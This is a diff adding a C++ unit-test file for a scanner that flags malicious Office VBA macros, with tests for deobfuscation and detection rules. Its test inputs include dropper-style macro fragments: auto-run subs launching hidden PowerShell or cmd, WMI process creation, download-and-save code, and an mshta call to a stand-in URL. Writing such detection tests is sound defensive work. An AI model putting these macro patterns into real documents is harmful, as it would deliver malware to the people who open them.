@@ -1,0 +1,199 @@
+#include "scanner/office/macro_findings.h"
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include "model/finding.h"
+#include "scanner/office/vba_fold.h"
+#include "tests/fixtures/droppers.h"
+#include "tests/fixtures/mutate.h"
+
+namespace sekisho::scanner::office {
+namespace {
+
+using Ids = std::vector<std::string>;
+
+Findings findings_of(const fixtures::VbaProject& project) {
+    MacroTraits traits;
+    for (const fixtures::VbaModule& module : project.modules)
+        traits.read(module.source, module.name);
+    Findings findings(100);
+    traits.report(0, findings);
+    return findings;
+}
+Findings findings_of(std::string source) {
+    fixtures::VbaProject project;
+    project.modules.push_back({"M", std::move(source), false});
+    return findings_of(project);
+}
+Ids ids(const Findings& findings) {
+    Ids out;
+    for (const auto& finding : findings.all())
+        out.push_back(finding.id.substr(11));  // without "office.vba."
+    return out;
+}
+double score(const Findings& findings) {
+    double sum = model::find_finding("office.macro")->score;
+    for (const auto& finding : findings.all())
+        sum += model::find_finding(finding.id)->score;
+    return sum;
+}
+
+struct FoldCase {
+    std::string_view name;
+    std::string_view source;
+    std::string_view folded;
+};
+class Fold : public testing::TestWithParam<FoldCase> {};
+TEST_P(Fold, Gives) { EXPECT_EQ(fold_vba(GetParam().source).text, GetParam().folded); }
+INSTANTIATE_TEST_SUITE_P(
+    All, Fold,
+    testing::Values(
+        FoldCase{"nothing", "x = y + 1", "x = y + 1"},
+        FoldCase{"concat", R"(x = "win" & "mgmts" + ":")", R"(x = "winmgmts:")"},
+        FoldCase{"variable_ends_it", R"(x = "a" & "b" & y & "c" & "d")", R"(x = "ab" & y & "cd")"},
+        FoldCase{"chr", R"(x = Chr(83) & ChrW$(&H68) & Chr(100 + 1))", R"(x = "She")"},
+        FoldCase{"chr_xor", "x = Chr(1 Xor 64)", R"(x = "A")"},
+        FoldCase{"chr_of_variable", "x = Chr(n)", "x = Chr(n)"},
+        FoldCase{"reverse", R"(x = StrReverse("llehS"))", R"(x = "Shell")"},
+        FoldCase{"replace", R"(x = Replace("pXoXwer", "X", ""))", R"(x = "power")"},
+        FoldCase{"nested", R"(x = Replace(StrReverse("Xr" & "ewXop"), "X", ""))", R"(x = "power")"},
+        FoldCase{"quotes", R"(x = "say ""hi""" & "!")", R"(x = "say ""hi""!")"},
+        FoldCase{"carets", R"(x = "p^ow^er")", R"(x = "power")"},
+        FoldCase{"power_operator", "x = a ^ 2", "x = a ^ 2"},
+        FoldCase{"continued", "x = \"a\" & _\r\n  \"b\"", R"(x = "ab")"},
+        FoldCase{"unclosed", "x = \"abc\ny = \"d\"", "x = \"abc\ny = \"d\""},
+        FoldCase{"identifier_that_ends_in_chr", R"(xchr(65))", R"(xchr(65))"},
+        FoldCase{"parentheses", R"(x = "a" & ("b" & "c"))", R"(x = "abc")"},
+        FoldCase{"deep", R"(x = ((((((((((("a")))))))))))", R"(x = ((((((((((("a")))))))))))"}),
+    [](const auto& info) { return std::string(info.param.name); });
+
+TEST(FoldVba, TakesOutASalt) {
+    const VbaFolded folded =
+        fold_vba("a = \"w]x[in]x[mgm]x[ts:Win]x[32_P]x[rocess\"\r\nb = Replace(a, \"]x[\", \"\")\r\n");
+    EXPECT_THAT(folded.text, testing::HasSubstr("winmgmts:Win32_Process"));
+    EXPECT_GE(folded.salted, 4U);
+}
+
+TEST(FoldVba, StaysLinear) {
+    // Each would be quadratic or worse with a naive reader.
+    const std::vector<std::string> hostile = {
+        std::string(400'000, '"'),
+        [] {
+            std::string s;
+            for (int i = 0; i < 60'000; ++i)
+                s += "Replace(";
+            return s;
+        }(),
+        [] {
+            std::string s;
+            for (int i = 0; i < 60'000; ++i)
+                s += "\"a\"&";
+            return s;
+        }(),
+        [] {
+            std::string s =
+                "Replace(\"" + std::string(60'000, 'a') + "\",\"a\",\"" + std::string(60'000, 'b') + "\")";
+            return s;
+        }(),
+        std::string(400'000, '('),
+        std::string(400'000, '_'),
+    };
+    for (const std::string& source : hostile)
+        EXPECT_LE(fold_vba(source).text.size(), 2 * source.size() + (130u << 10));
+}
+
+TEST(MacroFindings, EachWaveIsMalicious) {
+    for (const fixtures::Dropper& dropper : fixtures::vba_droppers()) {
+        const Findings findings = findings_of(fixtures::dropper_project(dropper.wave));
+        EXPECT_TRUE(findings.has("office.vba.autoexec")) << dropper.wave;
+        EXPECT_TRUE(findings.has("office.vba.dropper")) << dropper.wave;
+        EXPECT_GE(score(findings), 10.0) << dropper.wave;
+    }
+}
+
+TEST(MacroFindings, OrdinaryWorkbookStaysBelowSuspicious) {
+    const Findings findings = findings_of(fixtures::benign_project());
+    EXPECT_EQ(ids(findings), (Ids{"autoexec", "write"}));
+    EXPECT_LT(score(findings), 5.0);
+    EXPECT_EQ(ids(findings_of(fixtures::stub_project())), Ids{});
+}
+
+struct Source {
+    std::string_view name;
+    std::string_view text;
+    Ids ids;
+};
+class MacroCases : public testing::TestWithParam<Source> {};
+TEST_P(MacroCases, Give) { EXPECT_EQ(ids(findings_of(std::string(GetParam().text))), GetParam().ids); }
+
+INSTANTIATE_TEST_SUITE_P(
+    All, MacroCases,
+    testing::Values(
+        Source{"empty", "", {}},
+        Source{"explorer",
+               "Sub Workbook_Open()\nShell \"explorer.exe C:\\Data\", vbNormalFocus\nEnd Sub",
+               {"autoexec"}},
+        Source{"harmless_path", "Sub A()\nShell(\"C:\\Windows\\notepad.exe x.txt\")\nEnd Sub", {}},
+        Source{"shell_of_variable", "Sub A()\nShell path, 1\nEnd Sub", {"exec"}},
+        Source{
+            "prose", "' Sorts by the Shell method, after Shell (1959)\nSub ShellSort(x)\nEnd Sub", {"exec"}},
+        Source{"prose_without_call", "' the Shell sort\nSub ShellSort(x)\nEnd Sub", {}},
+        Source{"powershell",
+               "Sub AutoOpen()\nShell \"powershell -w hidden\"\nEnd Sub",
+               {"autoexec", "exec", "dropper"}},
+        Source{"case", "SUB AUTOOPEN()\nSHELL(\"CMD /C X\")\nEND SUB", {"autoexec", "exec", "dropper"}},
+        Source{"continued", "Sub _\n  AutoOpen()\nEnd Sub", {"autoexec"}},
+        Source{"not_declared", "Sub A()\n' AutoOpen would be called\nEnd Sub", {}},
+        Source{"button",
+               "Sub CommandButton1_Click()\nCreateObject(\"WScript.Shell\").Run \"x.bat\"\nEnd Sub",
+               {"exec"}},
+        Source{"popup",
+               "Sub Workbook_Open()\nCreateObject(\"WScript.Shell\").Popup \"hi\"\nEnd Sub",
+               {"autoexec"}},
+        Source{"serial_number",
+               "Sub Workbook_Open()\nSet w = GetObject(\"winmgmts:\").ExecQuery(\"select * from "
+               "win32_bios\")\nEnd Sub",
+               {"autoexec"}},
+        Source{"wmi",
+               "Sub Document_Open()\nGetObject(\"winmgmts:Win32_Process\").Create c\nEnd Sub",
+               {"autoexec", "exec", "dropper"}},
+        Source{"price_list",
+               "Sub Workbook_Open()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Send\nEnd Sub",
+               {"autoexec"}},
+        Source{"fetch_to_file",
+               "Sub AutoOpen()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nSet s = "
+               "CreateObject(\"ADODB.Stream\")\ns.SaveToFile p\nEnd Sub",
+               {"autoexec", "download", "write", "dropper"}},
+        Source{"open_for_output", "Sub A()\nOpen p For Output As #1\nEnd Sub", {"write"}},
+        Source{"loop", "Sub A()\nFor outputs = 1 To 3\nNext\nEnd Sub", {}},
+        Source{"activex", "Sub InkPicture1_Painted(ByVal h As Long)\nEnd Sub", {"autoexec"}},
+        Source{"reversed", "Sub A()\nx = StrReverse(\"exe.23rvsger\")\nEnd Sub", {"obfuscated"}}),
+    [](const auto& info) { return std::string(info.param.name); });
+
+TEST(MacroFindings, SplitKeywordsAreObfuscation) {
+    const Findings findings = findings_of(
+        "Sub AutoOpen()\nCreateObject(\"WSc\" & \"ript.She\" & \"ll\").Run Chr(99) & \"md /c x\"\nEnd Sub");
+    EXPECT_EQ(ids(findings), (Ids{"autoexec", "exec", "obfuscated", "dropper"}));
+    EXPECT_EQ(findings.all()[0].evidence, "M: sub autoopen()");
+}
+
+TEST(MacroFindings, FactsJoinOverModules) {
+    fixtures::VbaProject project;
+    project.modules.push_back({"ThisDocument", "Sub AutoOpen()\nRunIt\nEnd Sub", true});
+    project.modules.push_back(
+        {"Module1", "Sub RunIt()\nShell \"mshta http://example.invalid/\"\nEnd Sub", false});
+    EXPECT_TRUE(findings_of(project).has("office.vba.dropper"));
+}
+
+TEST(MacroFindingsProperty, MutatedSourcesNeverCrash) {
+    for (const fixtures::Dropper& dropper : fixtures::vba_droppers()) {
+        for (std::uint32_t seed = 1; seed <= 400; ++seed) {
+            MacroTraits traits;
+            traits.read(fixtures::mutate(std::string(dropper.source), seed), "M");
+        }
+    }
+}
+
+}  // namespace
+}  // namespace sekisho::scanner::office
